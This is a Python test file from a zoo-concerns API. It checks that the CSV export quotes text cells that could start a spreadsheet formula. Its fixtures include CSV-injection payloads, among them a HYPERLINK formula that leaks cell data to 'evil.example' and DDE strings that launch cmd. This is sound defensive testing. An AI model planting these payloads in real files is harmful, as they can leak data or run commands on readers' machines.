"""Finding 6: names were written verbatim into the concern CSV, so whoever may name an animal
or an enclosure could plant a formula (`=HYPERLINK(...)`, `+cmd|...`) that a spreadsheet runs
when a journalist opens the download. Text cells that could start a formula are quoted."""

import csv
import io

import pytest
from fastapi.testclient import TestClient
from sqlmodel import Session

from app.core import csvsafe
from tests.api.test_reports import post_report
from tests.factories import make_animal, make_enclosure, make_species, make_zoo

API = "/api/v1"
HYPERLINK = '=HYPERLINK("https://evil.example/?leak="&A1,"click")'
DDE = "+cmd|' /C calc'!A0"
AT = "@SUM(1+1)*cmd|' /C calc'!A0"
MINUS = "-2+3+cmd|' /C calc'!A0"


def test_concern_csv_neutralises_formula_cells(client: TestClient, session: Session) -> None:
    zoo = make_zoo(session)
    pen = make_enclosure(session, zoo, name=HYPERLINK, last_inspected_on=None)
    species = make_species(session, common_name=AT)
    animal = make_animal(session, zoo, species, enclosure_id=pen.id, name=DDE)
    other = make_enclosure(session, zoo, name=MINUS, last_inspected_on=None)
    post_report(client, zoo.id, animal_id=animal.id, category="health", severity=5)

    response = client.get(f"{API}/zoos/{zoo.id}/concerns", params={"format": "csv"})
    assert response.status_code == 200, response.text
    rows = list(csv.DictReader(io.StringIO(response.text)))
    assert rows, "the scene raises flags"
    cells = [value for row in rows for value in row.values()]
    for cell in cells:
        assert not cell.startswith(csvsafe.FORMULA_PREFIXES), cell
    names = {row["name"] for row in rows} | {row["enclosure"] for row in rows}
    assert {"'" + DDE, "'" + HYPERLINK, "'" + MINUS} <= names
    assert "'" + AT in {row["species"] for row in rows}
    # Numbers stay numbers.
    animal_rows = [r for r in rows if r["subject_type"] == "animal"]
    assert animal_rows[0]["subject_id"] == str(animal.id)
    assert {r["subject_id"] for r in rows} >= {str(pen.id), str(other.id)}


@pytest.mark.parametrize(
    ("value", "written"),
    [
        ("=1+1", "'=1+1"),
        ("+1", "'+1"),
        ("-1", "'-1"),
        ("@A1", "'@A1"),
        ("\tx", "'\tx"),
        ("\rx", "'\rx"),
        ("Dallae", "Dallae"),
        ("a=b", "a=b"),
        ("", ""),
        (-5, -5),
        (3, 3),
        (1.5, 1.5),
    ],
)
def test_neutralise_quotes_text_that_could_start_a_formula(value: object, written: object) -> None:
    assert csvsafe.neutralise(value) == written


def test_safe_writer_writes_neutralised_rows() -> None:
    out = io.StringIO()
    csvsafe.writer(out, lineterminator="\n").writerows([["=1", -1, "ok"]])
    assert out.getvalue() == "'=1,-1,ok\n"
